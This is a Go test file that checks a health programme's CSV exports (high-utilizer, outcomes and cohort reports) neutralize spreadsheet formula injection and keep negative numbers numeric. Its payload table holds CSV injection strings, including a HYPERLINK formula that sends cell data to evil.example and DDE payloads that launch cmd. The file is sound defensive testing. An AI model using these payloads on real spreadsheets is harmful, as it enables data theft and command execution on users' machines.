package reports_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/relais-health/relais/events"
	"github.com/relais-health/relais/projections/reports"
)

// What a hospital sent (PID-3) or a case manager typed reaches the
// archivist's and the programme manager's spreadsheets as text, never as a
// formula: every dangerous first character is neutralized by a quote. A
// negative number in a numeric column stays a number (internal/csvsafe).
func TestCSVExportsNeutralizeFormulas(t *testing.T) {
	at := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	payloads := []struct{ name, in, want string }{
		{"a cell starting with = is quoted", `=HYPERLINK("http://evil.example/?x="&A1,"DEMO")`, `'=HYPERLINK("http://evil.example/?x="&A1,"DEMO")`},
		{"a cell starting with + is quoted", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"a cell starting with - is quoted", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"a cell starting with @ is quoted", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"a cell starting with a tab is quoted", "\t=1+1", "'\t=1+1"},
		{"a cell starting with a carriage return is quoted", "\r=1+1", "'\r=1+1"},
		{"an ordinary identifier is unchanged", "DEMO00000001", "DEMO00000001"},
	}
	for _, p := range payloads {
		t.Run("high utilizers: "+p.name, func(t *testing.T) {
			rows := []reports.Row{{Rank: 1, PatientKey: "pk1", Visits: 3, LastVisit: at,
				Identifier: &events.Identifier{Authority: p.in, Value: p.in}}}
			var b bytes.Buffer
			if err := reports.WriteHighUtilizersCSV(&b, rows); err != nil {
				t.Fatal(err)
			}
			got := readCSV(t, &b)
			if got[1][7] != p.want || got[1][8] != p.want {
				t.Fatalf("identifier cells %q, %q; want %q", got[1][7], got[1][8], p.want)
			}
		})
		t.Run("outcomes per client: "+p.name, func(t *testing.T) {
			o := reports.Outcomes{Clients: []reports.ClientOutcome{{ClientID: "c1", Programme: p.in, EnrolledAt: at, Cohort: "2026-H2"}}}
			var b bytes.Buffer
			if err := reports.WriteOutcomesCSV(&b, o); err != nil {
				t.Fatal(err)
			}
			if got := readCSV(t, &b); got[1][1] != p.want {
				t.Fatalf("programme cell %q, want %q", got[1][1], p.want)
			}
		})
		t.Run("cohorts: "+p.name, func(t *testing.T) {
			o := reports.Outcomes{Cohorts: []reports.Cohort{{Cohort: "all", Label: reports.Label{FR: p.in, EN: p.in}}}}
			var b bytes.Buffer
			if err := reports.WriteCohortsCSV(&b, o); err != nil {
				t.Fatal(err)
			}
			if got := readCSV(t, &b); got[1][1] != p.want || got[1][2] != p.want {
				t.Fatalf("label cells %q, %q; want %q", got[1][1], got[1][2], p.want)
			}
		})
	}
}

// A fall in ED visits is a negative change: it stays the number a
// spreadsheet sums, not text behind a quote.
func TestCohortsCSVKeepsNegativeNumbers(t *testing.T) {
	o := reports.Outcomes{Cohorts: []reports.Cohort{{Cohort: "all", BeforeVisits: 1054, AfterVisits12: 254, ChangePercent: -75.9}}}
	var b bytes.Buffer
	if err := reports.WriteCohortsCSV(&b, o); err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, &b)
	if got[0][8] != "change_percent" || got[1][8] != "-75.9" {
		t.Fatalf("%s = %q, want -75.9", got[0][8], got[1][8])
	}
}

func readCSV(t *testing.T, b *bytes.Buffer) [][]string {
	t.Helper()
	rows, err := csv.NewReader(b).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d CSV lines, want a header and one row", len(rows))
	}
	return rows
}
